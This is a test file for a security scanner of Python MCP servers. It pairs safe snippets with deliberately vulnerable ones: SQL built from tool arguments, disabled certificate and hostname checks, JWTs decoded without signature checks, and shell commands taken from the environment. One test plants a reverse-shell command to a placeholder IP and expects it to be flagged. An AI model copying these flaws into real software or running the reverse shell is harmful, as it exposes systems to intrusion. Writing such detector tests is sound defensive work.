@@ -1,0 +1,176 @@
+import { assertEquals } from "@std/assert";
+import { analyse } from "../../../workers/analysis/audit/mod.ts";
+import type { RawFinding } from "../../../workers/analysis/finding.ts";
+import { analyseHere } from "../../helpers/analysis.ts";
+
+const SERVER = `import jwt, os, re, sqlite3, ssl, subprocess, requests
+from mcp.server.fastmcp import FastMCP
+mcp = FastMCP("x")
+conn = sqlite3.connect("a.db")
+`;
+
+async function graveIn(files: Record<string, string>): Promise<string[]> {
+  const { result } = await analyseHere<{ code: RawFinding[] }>(analyse, files);
+  return result.code.filter(({ severity }) => /high|critical/.test(severity))
+    .map(({ rule, file }) => `${rule} ${file}`);
+}
+
+/** What is honest, with a change that makes it a fault. */
+const PAIRS: readonly (readonly [
+  what: string,
+  honest: string,
+  fault: string,
+  rule: string,
+])[] = [
+  [
+    "a table's name that is checked by the helper which quotes it",
+    `NAME = re.compile(r"\\w+")
+def ensure(name):
+    if not NAME.fullmatch(name):
+        raise ValueError(name)
+def qualified(name):
+    ensure(name)
+    return f"\`{name}\`"
+@mcp.tool()
+def rows(table: str):
+    return conn.execute(f"SELECT * FROM {qualified(table)}").fetchall()`,
+    `def qualified(name):
+    return f"\`{name}\`"
+@mcp.tool()
+def rows(table: str):
+    return conn.execute(f"SELECT * FROM {qualified(table)}").fetchall()`,
+    "py/tool-to-sql",
+  ],
+  [
+    "a table's name that is looked up as a bound value first",
+    `@mcp.tool()
+def columns(table: str):
+    cursor = conn.cursor()
+    cursor.execute("SELECT name FROM sqlite_master WHERE type='table' AND name=?", (table,))
+    if not cursor.fetchone():
+        raise ValueError(table)
+    return cursor.execute(f"PRAGMA table_info({table})").fetchall()`,
+    `@mcp.tool()
+def columns(table: str):
+    cursor = conn.cursor()
+    cursor.execute("SELECT name FROM sqlite_master WHERE type='table' AND name=?", (table,))
+    return cursor.execute(f"PRAGMA table_info({table})").fetchall()`,
+    "py/tool-to-sql",
+  ],
+  [
+    "a name whose quotes are doubled",
+    `@mcp.tool()
+def rows(table: str):
+    name = table.replace('"', '""')
+    return conn.execute(f'SELECT * FROM "{name}"').fetchall()`,
+    `@mcp.tool()
+def rows(table: str):
+    name = table.replace('"', "'")
+    return conn.execute(f'SELECT * FROM "{name}"').fetchall()`,
+    "py/tool-to-sql",
+  ],
+  [
+    "a certificate check behind an option of the user",
+    `@mcp.tool()
+def get(url: str):
+    if os.environ.get("INSECURE_TLS"):
+        return requests.get(url, verify=False, timeout=5).text
+    return requests.get(url, timeout=5).text`,
+    `@mcp.tool()
+def get(url: str):
+    return requests.get(url, verify=False, timeout=5).text`,
+    "S501",
+  ],
+  [
+    "a chain that is verified without the host's name",
+    `def context():
+    c = ssl.create_default_context()
+    c.check_hostname = False
+    return c
+@mcp.tool()
+def a(): return context()`,
+    `def context():
+    c = ssl.create_default_context()
+    c.check_hostname = False
+    c.verify_mode = ssl.CERT_NONE
+    return c
+@mcp.tool()
+def a(): return context()`,
+    "py/tls-unverified",
+  ],
+  [
+    "a token that the program has just made",
+    `def session(user):
+    token = create_token(user)
+    return jwt.decode(token, options={"verify_signature": False})["jti"]
+@mcp.tool()
+def a(): return session("me")`,
+    `def session(token):
+    return jwt.decode(token, options={"verify_signature": False})["jti"]
+@mcp.tool()
+def a(): return session("me")`,
+    "py/jwt-unverified",
+  ],
+  [
+    "a function that nothing calls",
+    `def debug(token):
+    return jwt.decode(token, options={"verify_signature": False})
+@mcp.tool()
+def a(): return 1`,
+    `def debug(token):
+    return jwt.decode(token, options={"verify_signature": False})
+@mcp.tool()
+def a(): return debug("x")`,
+    "py/jwt-unverified",
+  ],
+  [
+    "a shell whose whole command stands in the source",
+    `@mcp.tool()
+def paste(): return subprocess.Popen(["clip.exe"], shell=True)`,
+    `@mcp.tool()
+def paste(): return subprocess.Popen([os.environ["PASTE"]], shell=True)`,
+    "S602",
+  ],
+  [
+    "a list of paths that are refused",
+    `BLOCKED_PATHS = {"/etc/passwd", "/etc/sudoers", "/boot"}
+@mcp.tool()
+def a(): return 1`,
+    `PATHS = {"/etc/passwd", "/etc/sudoers", "/boot"}
+@mcp.tool()
+def a(): return 1`,
+    "py/persistence",
+  ],
+];
+
+for (const [what, honest, fault, rule] of PAIRS) {
+  Deno.test(`${what} fails no scan, and does where it is not so`, async () => {
+    assertEquals(await graveIn({ "server.py": SERVER + honest }), []);
+    const found = await graveIn({ "server.py": SERVER + fault });
+    assertEquals(found.filter((each) => each.startsWith(rule)).length > 0, true, found.join());
+  });
+}
+
+Deno.test("a script that the server never reaches fails a scan by malice only", async () => {
+  const files = (script: string) => ({ "server.py": SERVER, "scripts/clean.py": script });
+  const fault = "import subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)\n";
+  const malice = 'import os\nos.system("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1")\n';
+  assertEquals(await graveIn(files(fault)), []);
+  assertEquals(await graveIn(files(malice)), ["py/reverse-shell scripts/clean.py"]);
+});
+
+Deno.test("a module with a fault that only a computed name leads to is not run, and fails nothing", async () => {
+  const server = `${SERVER}import importlib
+@mcp.tool()
+def load(): return importlib.import_module(os.environ["PLUGIN"])
+`;
+  const plugin =
+    "import subprocess, sys\ndef a():\n    subprocess.run(sys.argv[1], shell=True)\na()\n";
+  const files = { "server.py": server, "plugin.py": plugin };
+  const { result } = await analyseHere<{ code: RawFinding[]; scanned: { files: string[] } }>(
+    analyse,
+    files,
+  );
+  assertEquals(result.code.filter(({ severity }) => severity === "high"), []);
+  assertEquals(result.scanned.files, ["server.py"]);
+});
